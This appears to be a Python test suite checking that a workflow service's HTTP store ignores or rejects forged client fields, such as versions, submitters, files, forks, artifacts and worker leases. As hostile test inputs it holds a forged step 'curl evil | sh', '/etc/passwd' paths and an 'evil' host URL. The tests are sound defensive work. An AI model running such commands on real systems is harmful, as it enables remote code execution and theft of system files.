"""What a client says about a run that it starts through the store over HTTP: the server believes none of it."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import msgspec
import pytest
from tests.support.api_client import AT, Client, Reply, open_client, token_record
from tests.support.keeping import SOUND, commit, offer, queue, sound_run, started, task
from tests.support.nightly import POSTGRES
from tests.support.store_files import write_empty_store

from mulligan.core.deciding.rounds.fork import kept_results
from mulligan.core.model.artifacts import Artifact, make_reference
from mulligan.core.model.event_types import HostCapacity, Kept
from mulligan.core.model.graph import Graph
from mulligan.core.model.reports import RunRequested
from mulligan.core.model.run_data import DataValue
from mulligan.core.model.workflow import NoticeRule, version
from mulligan.core.state.workspace import WORKER_FOLDER
from mulligan.language import load_text
from mulligan.ports import NewRun, TokenLimits
from mulligan.service.home import DATABASE, Home
from mulligan.service.host.object_places import agree, known_places
from mulligan.service.runs.changes.corrections import digest_of
from mulligan.service.server.notices.notices import HookRule
from mulligan.service.service import Service

PROTOCOL = {"mulligan-protocol": "1"}
WITH_INPUT = (
    "name: nightly\ninputs:\n  text: {default: none}\nsteps:\n  - step: build\n    shell: echo ${inputs.text}\n"
)
Change = Callable[[NewRun], NewRun]


@pytest.fixture(params=["sqlite", POSTGRES])
def home(request: pytest.FixtureRequest, tmp_path: Path) -> Home:
    if request.param == "postgres":
        return Home(tmp_path / "home", request.getfixturevalue("store_schema_url"))
    write_empty_store(tmp_path / "home" / DATABASE)
    return Home(tmp_path / "home")


@pytest.fixture
def client(home: Home) -> Iterator[Client]:
    limited = token_record("limited", ["write"], project="red", limits=TokenLimits(workflows=("weekly",)))
    tokens = [token_record(name, ["write", "read"], project=name) for name in ("red", "blue")]
    workers = [token_record(f"{name} worker", ["worker"], project=name) for name in ("red", "blue")]
    whole = token_record("worker of all", ["worker"], project=None)
    opened = open_client(home, tokens=[*tokens, limited, *workers, whole])
    yield opened
    opened.close()


def create(client: Client, *runs: NewRun, scope: str = "red") -> Reply:
    return client.post("store/write/create", {"runs": runs}, scope=scope, headers=PROTOCOL)


def created(client: Client, run: NewRun, scope: str = "red") -> int:
    reply = create(client, run, scope=scope)
    assert reply.status == 200, reply.body
    run_id: int = reply.json[0]["run_id"]
    return run_id


def asked(run: NewRun, **fields: Any) -> NewRun:
    return msgspec.structs.replace(run, request=msgspec.structs.replace(run.request, **fields))


def in_red(service: Service) -> Service:
    return service.for_token(token_record("red", ["write"], project="red"))


def request_of(service: Service, run_id: int) -> RunRequested:
    (message,) = service.reader.store.inbox([run_id])
    assert isinstance(message.report, RunRequested)
    return message.report


def test_code_that_is_stored_under_the_version_of_another_text_does_not_run_there(
    client: Client, service: Service
) -> None:
    honest = sound_run(SOUND)
    evil = sound_run(SOUND.replace("echo built", "curl evil | sh"))
    forged = asked(msgspec.structs.replace(evil, version=honest.version), version=honest.version)

    first, second, third = (
        created(client, run, scope) for run, scope in ((forged, "red"), (honest, "blue"), (honest, "red"))
    )

    loaded = [service.reader.store.load(run_id) for run_id in (first, second, third)]
    assert [one.workflow for one in loaded] == [evil.workflow, honest.workflow, honest.workflow]
    assert [one.record.version for one in loaded] == [version(evil.workflow), honest.version, honest.version]
    assert request_of(service, first).version == version(evil.workflow)


def test_who_when_and_what_it_is_called_is_said_by_the_server(client: Client, service: Service) -> None:
    said = asked(
        msgspec.structs.replace(sound_run(), name="payroll", project="blue"),
        run_id=7,
        at=AT,
        by="the boss",
        uid="0" * 12,
        cwd="/etc",
        file="/etc/passwd",
        digest="0" * 16,
        capacity=HostCapacity(cpus=2, on="dask://evil:8786"),
    )

    run_id = created(client, said)

    record, request = service.reader.store.run(run_id), request_of(service, run_id)
    assert (record.workflow, record.project, record.started_by) == ("nightly", "red", "red")
    assert (request.run_id, request.by, request.digest) == (run_id, "red", "")
    assert request.uid != "0" * 12 and request.at != AT and request.cwd == WORKER_FOLDER
    assert request.capacity == HostCapacity(cpus=2)


def test_a_file_that_a_client_names_is_not_read_on_the_host_of_the_server(
    client: Client, service: Service, tmp_path: Path
) -> None:
    secret = tmp_path / "secret"
    secret.write_text("secret")
    here, gone = (
        created(client, asked(sound_run(), file=str(path), digest=digest))
        for path, digest in ((secret, digest_of(str(secret))), (tmp_path / "gone", ""))
    )
    with service.driving.driver() as driver:
        for run_id in (here, gone):
            driver.drive(run_id)

    for run_id in (here, gone):
        found = service.runs.workflow(run_id)
        assert (found.is_file_same, found.text) == (False, None)


def test_a_run_has_a_bounded_number_of_targets_for_notices(client: Client) -> None:
    rules = [NoticeRule(("failed",), tuple(f"t{number}" for number in range(1000)))]

    reply = create(client, asked(sound_run(), notify=tuple(rules)))

    assert (reply.status, reply.code) == (422, "input.invalid")


def test_the_notice_rules_of_the_project_cannot_be_left_out(client: Client, service: Service) -> None:
    rule = NoticeRule(("failed",), ("ops",))
    in_red(service).notices.set_hooks([HookRule(("failed",), ("ops",))])

    assert request_of(service, created(client, sound_run())).notify == (rule,)
    assert request_of(service, created(client, sound_run(), "blue")).notify == ()


REFUSED: dict[str, Change] = {
    "no definition": lambda run: msgspec.structs.replace(run, workflow=b"{}"),
    "not JSON": lambda run: msgspec.structs.replace(run, workflow=b"\xff"),
    "nested too deep": lambda run: msgspec.structs.replace(run, workflow=b'{"name":' + b"[" * 100_000),
    "unknown field": lambda run: msgspec.structs.replace(run, workflow=b'{"more":1,' + run.workflow[1:]),
    "a parent": lambda run: asked(run, parent_run_id=1),
    "a place of a parent": lambda run: msgspec.structs.replace(run, parent_place="call"),
    "an attempt of a parent": lambda run: msgspec.structs.replace(run, parent_attempt=1),
    "a key of a schedule": lambda run: msgspec.structs.replace(run, key="schedule:red/nightly:2026-01-01T00:00:00Z"),
    "a key of the API": lambda run: msgspec.structs.replace(run, key="request: k"),
    "a key of another workflow": lambda run: msgspec.structs.replace(run, key="weekly: k"),
    "a key of two lines": lambda run: msgspec.structs.replace(run, key="nightly: a\nb"),
    "a long key": lambda run: msgspec.structs.replace(run, key="nightly: " + "x" * 1000),
    "a missing input": lambda run: asked(run, inputs={"more": 1}),
    "an input of another type": lambda run: asked(sound_run(WITH_INPUT), inputs={"text": 1}),
    "an artifact as an input": lambda run: asked(sound_run(WITH_INPUT), inputs={"text": _stolen()}),
    "a label of the server": lambda run: asked(run, labels={"version": "3"}),
    "a label of two lines": lambda run: asked(run, labels={"a": "b\nc"}),
    "a kept result": lambda run: asked(run, kept=(Kept("build", "completed", "built"),)),
    "kept data": lambda run: asked(run, data={"a": DataValue(1)}),
    "an unknown step": lambda run: asked(run, forced=("deploy",)),
}


@pytest.mark.parametrize("change", REFUSED.values(), ids=list(REFUSED))
def test_what_no_client_of_ours_sends_is_refused_and_stores_nothing(
    client: Client, service: Service, change: Change
) -> None:
    reply = create(client, sound_run(), change(sound_run()))

    assert reply.status == 422, reply.body
    assert service.reader.store.runs() == []


def test_a_fork_of_a_run_of_another_project_or_workflow_is_refused(client: Client) -> None:
    run_id = created(client, sound_run(), "blue")
    ours = created(client, sound_run())

    assert create(client, asked(sound_run(), forked_from=run_id)).status == 404
    weekly = sound_run(SOUND.replace("nightly", "weekly"))
    assert create(client, asked(weekly, forked_from=ours), scope="limited").status == 409
    assert create(client, msgspec.structs.replace(sound_run(), name="weekly"), scope="limited").status == 409


def test_a_fork_keeps_what_the_log_of_its_run_says_and_nothing_else(client: Client, service: Service) -> None:
    run_id = created(client, sound_run())
    with service.driving.driver() as driver:
        driver.drive(run_id)
    (kept,) = kept_results(service.reader.state(run_id), Graph(load_text(SOUND)), "")
    assert kept.output == "built"

    for said in (
        kept,
        Kept("build", "completed", "other"),
        Kept("build", "completed", _stolen()),
        Kept("build", "skipped"),
    ):
        data = {"a": DataValue(1, 1, "build", 1)}
        request = request_of(service, created(client, asked(sound_run(), forked_from=run_id, kept=(said,), data=data)))
        assert (request.kept, request.data) == ((kept,), {})
    unknown = asked(sound_run(), forked_from=run_id, kept=(Kept("deploy", "completed", "built"),))
    assert create(client, unknown).status == 409
    assert create(client, asked(sound_run(), forked_from=run_id, kept=(kept, kept))).status == 422


def test_only_documents_that_a_route_shows_are_read(client: Client, service: Service) -> None:
    for kind, status in (("draft", 200), ("hooks", 200), ("schedule", 200), ("schedule_state", 200)):
        assert _documents(client, kind) == [status, status], kind
    for kind in ("login", "worker", "lost_runs", "log_watch", "traces", "", "%"):
        assert _documents(client, kind) == [422, 422], kind


def test_an_artifact_of_another_project_is_unknown_to_every_call(client: Client, service: Service) -> None:
    theirs = created(client, sound_run(), "blue")
    kept = service.reader.store.artifacts.keep(f"{theirs}/build/1/1/output.txt", b"secret", "text")
    body = {"artifact": kept}
    name = {"name": f"{theirs}/build/1/1/more.txt", "format": "text"}

    def status(path: str, scope: str) -> int:
        return client.post(path, body, scope=scope, headers=PROTOCOL).status

    assert [status("store/read/artifacts.fetch", scope) for scope in ("blue", "red")] == [200, 404]
    assert [status("store/worker/work.fetch", scope) for scope in ("blue worker", "red worker")] == [200, 404]
    upload = client.request("POST", "store/artifacts", body=b"x", query=name, scope="red worker", headers=PROTOCOL)
    assert upload.status == 404


def test_a_worker_cannot_make_an_artifact_of_another_project_the_output_of_its_task(
    client: Client, service: Service
) -> None:
    store = service.reader.store
    theirs, turn = started(store, project="blue"), started(store, project="red")
    stolen = store.artifacts.keep(f"{theirs.run_id}/build/1/1/output.txt", b"secret", "text")
    queue(store, turn, task(turn.run_id))
    ask: dict[str, Any] = {"worker": "far.1", "ended": [], "logs": [], "offer": offer(host="far"), "is_beat": False}
    record = {"worker": {"name": "far.1", "host": "far", "pid": 1, "cpus": 2.0, "lock": "/etc/passwd"}}
    seconds = {"lease_seconds": service.home.lease_seconds}
    assert _worker(client, "register", {**record, **seconds}).status == 200
    (lease,) = _worker(client, "exchange", ask).json["leases"]

    def report(**fields: Any) -> Reply:
        said = {"type": "TaskEnded", "at": AT, "place": "build", "attempt": 1, **fields}
        return _worker(client, "exchange", {**ask, "offer": None, "ended": [{"token": lease["token"], "report": said}]})

    assert report(output=[make_reference(stolen)]).status == 404
    assert report(artifacts=[make_reference(stolen)]).status == 404
    assert len(store.leases_of("far.1")) == 1
    assert report(output="built").status == 200
    assert not store.leases_of("far.1")
    (registered,) = (one for one in store.workers() if one.name == "far.1")
    assert registered.lock == ""


def test_a_worker_learns_the_bucket_of_the_store_and_cannot_name_another(client: Client, service: Service) -> None:
    store = service.reader.store
    agree(store, "s3://bucket/team")
    known = known_places(store)
    assert known is not None
    turn = started(store, project="red")
    queue(store, turn, task(turn.run_id))
    ask: dict[str, Any] = {"worker": "far.1", "ended": [], "logs": [], "offer": offer(host="far"), "is_beat": False}
    record = {"worker": {"name": "far.1", "host": "far", "pid": 1, "cpus": 2.0}}
    assert _worker(client, "register", {**record, "lease_seconds": service.home.lease_seconds}).status == 200
    (lease,) = _worker(client, "exchange", ask).json["leases"]
    assert lease["task"]["objects"] == known.places[0]

    theirs = Artifact(f"{turn.run_id}/build/1/1/{'0' * 64}/output.json", 9, "0" * 64, place="s3://bucket/other/x")
    assert _worker(client, "fetch", {"artifact": theirs}).status == 422
    said = {"type": "TaskEnded", "at": AT, "place": "build", "attempt": 1, "output": make_reference(theirs)}
    done = {**ask, "offer": None, "ended": [{"token": lease["token"], "report": said}]}
    assert _worker(client, "exchange", done).status == 200

    message = store.inbox([turn.run_id])[-1]
    assert message.report.output is None
    assert "'s3://bucket/other/x' is no place of artifacts of this store" in message.report.outcome.output_error


def test_a_worker_finds_results_of_the_project_of_its_run_alone(client: Client, service: Service) -> None:
    store = service.reader.store
    red, blue = started(store, project="red"), started(store, project="blue")
    for turn in (red, blue):
        store.commit([commit(turn, rows=[("places", "build", "tag", b"{}")])])

    def found(scope: str, **more: Any) -> list[int]:
        return [row[0] for row in _worker(client, "tagged_rows", {"tag": "tag", "limit": 9, **more}, scope).json]

    assert found("red worker") == found("red worker", beside=red.run_id) == [red.run_id]
    assert found("red worker", beside=blue.run_id) == []
    assert found("worker of all", beside=blue.run_id) == [blue.run_id]
    assert found("worker of all") == found("worker of all", beside=999) == []


def _worker(client: Client, call: str, body: Any, scope: str = "red worker") -> Reply:
    return client.post(f"store/worker/work.{call}", body, scope=scope, headers=PROTOCOL)


def _documents(client: Client, kind: str) -> list[int]:
    one = {"project": "", "kind": kind, "name": "x"}
    bodies = {"server_records.documents": {"kind": kind, "project": None}, "server_records.document": one}
    return [
        client.post(f"store/read/{call}", body, scope="red", headers=PROTOCOL).status for call, body in bodies.items()
    ]


def _stolen() -> dict[str, Any]:
    return make_reference(Artifact("1/build/1/1/output.txt", 6, "0" * 64, "text"))
